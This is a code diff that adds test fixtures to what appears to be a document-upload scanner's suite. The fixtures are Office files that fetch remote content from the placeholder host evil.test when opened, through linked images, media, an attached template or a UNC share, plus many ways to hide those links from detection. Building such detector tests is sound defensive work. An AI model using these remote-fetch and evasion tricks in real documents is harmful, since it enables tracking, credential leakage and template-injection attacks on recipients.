@@ -131,6 +131,51 @@ async function active(): Promise<Fake[]> {
   ];
 }
 
+const OFFICE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+/** An Office file with these relationships of its main part. */
+export function related(kind: "docx" | "xlsx" | "pptx", rels: string | Buffer): Buffer {
+  const place = { docx: "word/_rels/document.xml.rels", xlsx: "xl/_rels/workbook.xml.rels", pptx: "ppt/_rels/presentation.xml.rels" }[kind];
+  return sample.office(kind, [{ name: place, body: rels }]);
+}
+
+export const relationship = (type: string, target: string, mode = ' TargetMode="External"') =>
+  `<Relationships><Relationship Id="r1" Type="${OFFICE_TYPE}/${type}" Target="${target}"${mode}/></Relationships>`;
+
+/** Office files that fetch something when they are opened, and ways of hiding it. */
+function fetching(): Fake[] {
+  const picture = relationship("image", "file://evil.test/x.png");
+  const template = relationship("attachedTemplate", "https://evil.test/x.dotm");
+  const [types, , main] = sample.officeEntries("docx");
+  // Hardly packs, so that no ratio decides.
+  const padding = (size: number) => Buffer.from(`<!--${randomBytes(size / 2).toString("hex")}-->`);
+  const long = 4 * 1024 * 1024 + 10;
+  const say = (what: string, bytes: Buffer, kind = "docx"): Fake => ({ what, name: `a.${kind}`, bytes });
+  return [
+    say("a linked picture", related("docx", picture)),
+    say("a linked picture in a workbook", related("xlsx", picture), "xlsx"),
+    say("a linked sound", related("pptx", relationship("audio", "https://evil.test/x.wav")), "pptx"),
+    say("a linked film", related("pptx", relationship("video", "https://evil.test/x.mp4")), "pptx"),
+    say("a workbook that a text names", related("docx", relationship("externalLinkPath", "https://evil.test/x.xlsx"))),
+    say("a prefix", related("docx", template.replaceAll("Relationship", "r:Relationship"))),
+    say("letters as numbers", related("docx", template.replace("External", "Extern&#97;l"))),
+    say("letters as other numbers", related("docx", picture.replace("External", "&#x45;xternal"))),
+    say("a mode in small letters", related("docx", picture.replace("External", "external"))),
+    say("single quotes", related("docx", picture.replaceAll('"', "'"))),
+    say("a bracket in a value", related("docx", picture.replace("x.png", "x>y.png"))),
+    say("wide relationships", related("docx", Buffer.from(`\ufeff${template}`, "utf16le"))),
+    say("wide relationships the other way round", related("docx", Buffer.from(`\ufeff${template}`, "utf16le").swap16())),
+    say("an encoding that hides them", related("docx", `<?xml version="1.0" encoding="utf-7"?>${template.replaceAll("<", "+ADw-")}`)),
+    say("no mode, and an address all the same", related("docx", relationship("image", "https://evil.test/x.png", ""))),
+    say("a share as the address", related("docx", relationship("image", "\\\\evil.test\\x.png", ""))),
+    say("relationships behind 4 MiB", related("docx", Buffer.concat([padding(long), Buffer.from(picture)]))),
+    say("a dtd behind 4 MiB", sample.office("docx", [{ name: "word/x.xml", body: Buffer.concat([padding(long), Buffer.from("<!DOCTYPE x []><x/>")]) }])),
+    say("a macro type behind 4 MiB", sample.zip([{ name: "[Content_Types].xml", body: Buffer.concat([Buffer.from(types?.body ?? ""), padding(long), Buffer.from("macroEnabled")]) }, ...sample.officeEntries("docx").slice(1)])),
+    say("a macro type with letters as numbers", sample.zip([{ name: "[Content_Types].xml", body: `${String(types?.body)}<x t="macroEn&#97;bled"/>` }, ...sample.officeEntries("docx").slice(1)])),
+    say("a macro type under small letters", sample.zip([{ name: "[content_types].xml", body: `${String(types?.body)}<x t="macroEnabled"/>` }, ...(main ? [main] : [])])),
+  ];
+}
+
 /** The same told in other ways of writing XML, which Office reads as well. */
 function hidden(): Fake[] {
   const { office, zip, officeEntries } = sample;
@@ -158,7 +203,7 @@ function hidden(): Fake[] {
 
 /** At least three hundred files none of which may be taken as they are. */
 export async function fakes(): Promise<Fake[]> {
-  return [...(await misnamed()), ...(await halfTrue()), ...(await liars()), ...(await twofold()), ...(await active())];
+  return [...(await misnamed()), ...(await halfTrue()), ...(await liars()), ...(await twofold()), ...(await active()), ...fetching()];
 }
 
 /** What costs much more than it weighs. */
